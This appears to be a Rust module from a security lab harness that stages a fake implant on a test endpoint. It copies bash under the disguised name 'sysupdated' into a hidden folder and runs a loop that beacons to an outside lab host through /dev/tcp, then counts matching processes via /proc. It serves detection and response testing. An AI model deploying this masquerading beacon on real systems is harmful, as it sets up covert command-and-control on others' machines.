//! The process that should not be there: a renamed shell in a hidden folder that calls home five times a second, with a
//! child that waits for work.

use std::time::Duration;

use quell_lab::site::Machine;
use quell_lab::{Child, Lab, SINK_PORT};

use crate::demo::stage::{Stage, lab_failed};
use crate::failure::Failure;

/// Its folder.
const FOLDER: &str = "/var/tmp/.cache-update";
/// Its program: the system's shell under another name.
pub const PROGRAM: &str = "/var/tmp/.cache-update/sysupdated";
/// What it runs.
pub const SCRIPT: &str = "/var/tmp/.cache-update/stage2";

/// Starts it.
pub fn start(lab: &Lab, on: &Machine) -> Result<Child, Failure> {
    let home = lab.outside().addresses().ip4();
    let script = format!(
        "{PROGRAM} -c 'while :; do sleep 1; done' idle &\n\
         while :; do\n\
           exec 3<>/dev/tcp/{home}/{SINK_PORT} && while echo beacon >&3; do sleep 0.2; done\n\
           sleep 0.5\n\
         done 2>/dev/null\n"
    );
    let set_up = format!(
        "mkdir -p {FOLDER} && cp -f \"$(command -v bash)\" {PROGRAM} && printf '%s' \"$1\" > {SCRIPT} && chmod 700 {PROGRAM}"
    );
    let done = on.endpoint.run(&["/bin/sh", "-c", &set_up, "sh", &script]).map_err(lab_failed)?;
    if !done.ok() {
        return Err(Failure::new(format!("the beacon could not be placed: {}", done.stderr.trim()))
            .hint("it needs bash"));
    }
    on.endpoint.spawn(&[PROGRAM, SCRIPT], &[]).map_err(lab_failed)
}

/// Waits until it has been heard outside.
pub async fn heard(stage: &Stage) -> bool {
    let before = stage.lab.outside().lines();
    for _ in 0..100 {
        if stage.lab.outside().lines() > before + 1 {
            return true;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    false
}

/// How many processes of an endpoint run the beacon, by the links of its own `/proc`.
pub fn running(on: &Machine) -> Result<usize, Failure> {
    let count = format!(
        "for exe in /proc/[0-9]*/exe; do readlink \"$exe\" 2>/dev/null; done | grep -c '^{PROGRAM}' || true"
    );
    let answer = on.endpoint.run(&["/bin/sh", "-c", &count]).map_err(lab_failed)?;
    answer
        .stdout
        .trim()
        .parse()
        .map_err(|_| Failure::new(format!("counting processes: {}", answer.stderr.trim())))
}
